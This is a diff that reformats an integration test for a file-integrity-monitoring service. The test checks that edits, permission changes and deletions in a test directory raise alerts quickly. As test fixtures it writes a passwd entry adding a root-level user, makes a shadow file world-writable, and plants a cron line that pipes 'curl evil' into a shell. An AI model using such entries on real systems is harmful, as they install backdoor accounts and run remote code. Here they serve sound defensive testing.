@@ -39,7 +39,10 @@ test('file changes become alerts in ClickHouse within 2 s, naming what changed',
   let agent: RunningStage<unknown, AgentHandle> | null = null;
   try {
     await applyTopics(bus);
-    const services = [await startService('fim', { bus, ctx, config, store }), await startService('sink', { bus, ctx, config, store })];
+    const services = [
+      await startService('fim', { bus, ctx, config, store }),
+      await startService('sink', { bus, ctx, config, store }),
+    ];
     agent = await runStage(agentStage, { bus, ctx, config: agentConfig });
 
     const waitFor = async (what: string, pred: (rows: Row[]) => boolean): Promise<{ rows: Row[]; ms: number }> => {
@@ -47,24 +50,42 @@ test('file changes become alerts in ClickHouse within 2 s, naming what changed',
       for (;;) {
         const rows = await store.query<Row>("SELECT signature, evidence FROM alerts WHERE stage = 'fim' ORDER BY ts");
         if (pred(rows)) return { rows, ms: Date.now() - t0 };
-        if (Date.now() - t0 > 15_000) throw new Error(`no alert for ${what}; alerts so far:\n${rows.map((r) => r.signature).join('\n')}`);
+        if (Date.now() - t0 > 15_000)
+          throw new Error(`no alert for ${what}; alerts so far:\n${rows.map((r) => r.signature).join('\n')}`);
         await new Promise((r) => setTimeout(r, 50));
       }
     };
     const changed = (rows: Row[], path: string) =>
-      rows.filter((r) => (JSON.parse(r.evidence) as { path: string }).path === path).map((r) => JSON.parse(r.evidence) as { op: string; changes: Array<{ attribute: string }>; renamed_from: string | null });
+      rows
+        .filter((r) => (JSON.parse(r.evidence) as { path: string }).path === path)
+        .map(
+          (r) =>
+            JSON.parse(r.evidence) as {
+              op: string;
+              changes: Array<{ attribute: string }>;
+              renamed_from: string | null;
+            },
+        );
 
     // content change: within 2 s, naming size, sha256 and mtime
     writeFileSync(join(tree, 'passwd'), 'passwd original\nmallory:x:0:0::/root:/bin/sh\n');
     const content = await waitFor('the content change', (rows) => changed(rows, join(tree, 'passwd')).length > 0);
     assert.ok(content.ms <= 2000, `alert landed after ${content.ms} ms`);
-    const attrs = changed(content.rows, join(tree, 'passwd'))[0]!.changes.map((c) => c.attribute).sort();
-    assert.deepEqual(attrs.filter((a) => ['sha256', 'size'].includes(a)), ['sha256', 'size']);
+    const attrs = changed(content.rows, join(tree, 'passwd'))[0]!
+      .changes.map((c) => c.attribute)
+      .sort();
+    assert.deepEqual(
+      attrs.filter((a) => ['sha256', 'size'].includes(a)),
+      ['sha256', 'size'],
+    );
 
     // permission-only change: mode, and nothing about the content
     chmodSync(join(tree, 'shadow'), 0o666);
     const perm = await waitFor('the chmod', (rows) => changed(rows, join(tree, 'shadow')).length > 0);
-    assert.deepEqual(changed(perm.rows, join(tree, 'shadow'))[0]!.changes.map((c) => c.attribute), ['mode']);
+    assert.deepEqual(
+      changed(perm.rows, join(tree, 'shadow'))[0]!.changes.map((c) => c.attribute),
+      ['mode'],
+    );
 
     // delete and recreate with the same content: a new inode
     unlinkSync(join(tree, 'hosts'));
@@ -92,7 +113,10 @@ test('file changes become alerts in ClickHouse within 2 s, naming what changed',
     agent = null;
     writeFileSync(join(tree, 'new-cron-job'), '* * * * * root curl evil | sh\n');
     agent = await runStage(agentStage, { bus, ctx, config: agentConfig });
-    const down = await waitFor('the change made during downtime', (rows) => changed(rows, join(tree, 'new-cron-job')).length > 0);
+    const down = await waitFor(
+      'the change made during downtime',
+      (rows) => changed(rows, join(tree, 'new-cron-job')).length > 0,
+    );
     assert.equal(changed(down.rows, join(tree, 'new-cron-job'))[0]!.op, 'added');
 
     for (const s of services) await s.stop();
